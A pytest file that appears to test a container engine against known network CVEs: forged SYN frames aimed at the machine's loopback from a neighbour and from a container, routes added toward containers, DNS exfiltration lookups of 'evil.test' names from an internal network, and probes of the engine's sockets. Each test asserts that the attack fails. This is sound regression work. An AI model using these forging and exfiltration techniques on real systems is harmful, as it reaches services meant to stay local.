"""Attacks over the network: from the wire, from a container, upon what only the machine may reach."""

from __future__ import annotations

import inspect
import re
import socket
import threading
from functools import partial
from pathlib import Path

import pytest

from tests.support import netlab
from tests.support.attack import PYTHON
from tests.support.http import fetch
from tests.support.namespaces import MS_BIND, mount, umount
from tests.support.netlab import answered, forged_syn, ip, mac_of
from tests.support.requires import requires
from tests.support.scenario import HOST_ADDRESS, NEIGHBOUR_ADDRESS, Host, Hosts, eventually
from tests.support.users import as_user

pytestmark = requires("ip")

WEB = """
services:
  web:
    image: busybox
    command: [sh, -c, 'echo mine >/srv/index.html; exec httpd -f -p 80 -h /srv']
    stop_signal: SIGKILL
    ports: ["127.0.0.1:8081:80"]
    networks: {default: {mac_address: "02:00:00:00:00:11"}}
  attacker:
    image: busybox
    command: [sleep, "1000"]
    stop_signal: SIGKILL
    cap_add: [NET_ADMIN]
    networks: [default]
"""


@pytest.fixture
def wired(hosts: Hosts, busybox_tar: Path) -> Host:
    """Return a machine with the image and a neighbour on its wire."""
    host = hosts(neighbour=True)
    host.run("image", "import", busybox_tar, "busybox").ok()
    return host


def inside(host: Host, folder: Path, service: str, script: str) -> str:
    """Return what a script prints in a container, errors included."""
    return host.run("exec", "-T", service, "sh", "-c", f"({script}) 2>&1; true", cwd=folder).ok().stdout


def address_of(host: Host, folder: Path, service: str) -> str:
    """Return a container's address."""
    return inside(host, folder, service, "hostname -i").split()[0]


def test_moby_41872_moby_45610_cve_2025_54388_cve_2020_8558_a_port_on_loopback(wired: Host) -> None:
    """A neighbour sends frames for 127.0.0.1, routes to the container itself, and asks the machine's own address."""
    folder = wired.project({"compose.yaml": WEB})
    wired.run("up", "-d", cwd=folder).ok()
    assert eventually(lambda: wired.inside(lambda: fetch("http://127.0.0.1:8081/"))) == "mine\n"
    web = address_of(wired, folder, "web")
    # A service of the machine's, for itself alone.
    with wired.inside(lambda: socket.create_server(("127.0.0.1", 9999))):
        receiver = wired.inside(partial(mac_of, "eth0"))
        sender = wired.outside(partial(mac_of, "eth0"))
        for target, port in (
            ("127.0.0.1", 8081),
            ("127.0.0.1", 9999),
            (HOST_ADDRESS, 8081),
            (web, 80),
            ("127.0.0.1", 80),
        ):
            frame = forged_syn(NEIGHBOUR_ADDRESS, target, port, sender=sender, receiver=receiver)
            got = wired.outside(partial(answered, "eth0", frame, port))
            # A reset says nothing; what may not come is an answer that opens a connection.
            assert not got or target == HOST_ADDRESS, (target, port)
        wired.outside(partial(ip, "route", "add", f"{web}/32", "via", HOST_ADDRESS))
        for address in (f"{web}:80", f"{HOST_ADDRESS}:8081"):
            with pytest.raises(OSError, match=r"refused|timed out|unreachable"):
                wired.outside(partial(fetch, f"http://{address}/", timeout_s=1))
    wired.run("down", cwd=folder).ok()


KNOCK = """
import contextlib, socket, struct, subprocess, sys
SILENCE_S = 1
gateway, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
    probe.connect((gateway, 9))
    own = probe.getsockname()[0]
    probe.send(b"")  # now its address is known
for _ in range(100):
    entries = [line.split() for line in open("/proc/net/arp") if line.startswith(gateway + " ")]
    if entries and entries[0][3] != "00:00:00:00:00:00":
        break
mac = lambda text: bytes.fromhex(text.strip().replace(":", ""))
sender = mac(open("/sys/class/net/eth0/address").read())
frame = forged_syn(own, target, port, sender=sender, receiver=mac(entries[0][3]))
print(answered("eth0", frame, port))
"""


@requires("host-python")
def test_cve_2020_8558_the_machines_loopback_from_a_container(wired: Host) -> None:
    """A container sends forged frames for 127.0.0.1 to its gateway: what listens there for itself gives no answer."""
    tools = "volumes: [/usr:/usr:ro, /lib:/lib:ro, /lib64:/lib64:ro]"
    folder = wired.project({"compose.yaml": WEB.replace("cap_add: [NET_ADMIN]", tools)})
    wired.run("up", "-d", cwd=folder).ok()
    gateway = inside(
        wired, folder, "attacker", "/bin/ip route | sed -n 's/default via \\([^ ]*\\).*/\\1/p'"
    ).strip()
    parts = (netlab.checksum, netlab.forged_syn, netlab.answered)
    script = "from __future__ import annotations\n" + KNOCK.replace(
        "SILENCE_S = 1\n", "SILENCE_S = 1\n" + "\n".join(inspect.getsource(part) for part in parts)
    )

    def knock(address: str, port: int) -> str:
        command = (*PYTHON, script, gateway, address, str(port))
        return wired.run("exec", "-T", "attacker", *command, cwd=folder).ok().stdout

    with (
        wired.inside(lambda: socket.create_server(("127.0.0.1", 9999))),
        wired.inside(lambda: socket.create_server(("0.0.0.0", 9998))),
    ):
        assert knock(gateway, 9998) == "True\n", "the attack itself works"
        assert knock("127.0.0.1", 9999) == "False\n"
        assert knock("127.0.0.1", 9998) == "False\n"
        assert knock("127.0.0.1", 8081) == "False\n"
    wired.run("down", cwd=folder).ok()


def test_cve_2024_29018_names_of_an_internal_network(wired: Host) -> None:
    """A container that may not reach the world sends nothing out by asking for a name, either."""
    text = """
services:
  closed: {image: busybox, command: [sleep, "1000"], stop_signal: SIGKILL, networks: [inner]}
  open: {image: busybox, command: [sleep, "1000"], stop_signal: SIGKILL, networks: [inner, outer]}
networks: {inner: {internal: true}, outer: {}}
"""
    asked: list[bytes] = []
    server = wired.outside(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
    server.bind((NEIGHBOUR_ADDRESS, 53))
    thread = threading.Thread(target=lambda: collect(server, asked))
    thread.start()
    resolv = wired.folder / "resolv.conf"
    resolv.write_text(f"nameserver {NEIGHBOUR_ADDRESS}\n", encoding="ascii")
    wired.inside(lambda: mount(str(resolv), Path("/etc/resolv.conf"), flags=MS_BIND))
    folder = wired.project({"compose.yaml": text})
    wired.run("up", "-d", cwd=folder).ok()

    said = inside(wired, folder, "closed", "nslookup stolen.evil.test; nslookup open")
    inside(wired, folder, "closed", f"nslookup direct.evil.test {NEIGHBOUR_ADDRESS}")
    eventually(lambda: inside(wired, folder, "open", "nslookup allowed.evil.test") and asked)
    wired.run("down", cwd=folder).ok()
    wired.inside(lambda: umount(Path("/etc/resolv.conf")))
    with wired.outside(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM)) as end:
        end.sendto(b"", (NEIGHBOUR_ADDRESS, 53))
    thread.join()
    server.close()

    assert re.search(r"Name:\s*open", said), "its own names it does know"
    assert b"allowed" in b"".join(asked)
    assert b"stolen" not in b"".join(asked)
    assert b"direct" not in b"".join(asked)


def collect(server: socket.socket, asked: list[bytes]) -> None:
    """Keep what is asked; an empty packet ends it."""
    while data := server.recv(2000):
        asked.append(data)


def test_cve_2024_32473_no_ipv6_where_none_was_asked_for(wired: Host) -> None:
    """Interfaces of a network without IPv6 have no address of it, and take none that a router offers."""
    folder = wired.project({"compose.yaml": WEB})
    wired.run("up", "-d", cwd=folder).ok()

    said = inside(
        wired,
        folder,
        "attacker",
        "cat /proc/sys/net/ipv6/conf/eth0/disable_ipv6; grep -v ' lo$' /proc/net/if_inet6",
    )
    wired.run("down", cwd=folder).ok()

    assert said == "1\n"


def test_cve_2020_15257_sockets_of_the_engine_from_the_machines_network(busy: Host) -> None:
    """A container in the machine's network namespace finds no socket of ours: they have paths."""
    text = "services: {app: {image: busybox, command: [sleep, '1000'], stop_signal: SIGKILL, network_mode: host}}"
    folder = busy.project({"compose.yaml": text})
    busy.run("up", "-d", cwd=folder).ok()
    sockets = inside(busy, folder, "app", "cat /proc/net/unix")
    paths = re.findall(r"(/\S+\.sock)$", sockets, re.MULTILINE)
    assert paths, "the engine has sockets"

    assert [line for line in sockets.splitlines() if line.split()[-1].startswith("@")] == []
    for path in paths:
        assert "No such file" in inside(busy, folder, "app", f"ls {path}")
        # Nor another user of the machine.
        assert as_user(busy, partial(connects, path)) == ["refused"]
    busy.run("down", cwd=folder).ok()


def connects(path: str) -> list[str]:
    """Return whether there is somebody at a socket."""
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as caller:
        return ["refused"] if caller.connect_ex(path) else ["connected"]


def test_dns_rebinding_finds_no_engine(busy: Host) -> None:
    """Whatever address a name is answered with: the engine listens on no TCP port of the machine, nor on UDP ones."""
    text = "services: {app: {image: busybox, command: [sleep, '1000'], stop_signal: SIGKILL}}"
    folder = busy.project({"compose.yaml": text})
    busy.run("up", "-d", cwd=folder).ok()
    busy.run("ps", cwd=folder).ok()

    def listening() -> list[str]:
        found = []
        for name in ("tcp", "tcp6", "udp", "udp6"):
            lines = Path(f"/proc/{busy.watch.pid}/net/{name}").read_text(encoding="ascii").splitlines()[1:]
            found += [line.split()[1] for line in lines if name.startswith("udp") or line.split()[3] == "0A"]
        return found

    assert listening() == []
    busy.run("down", cwd=folder).ok()
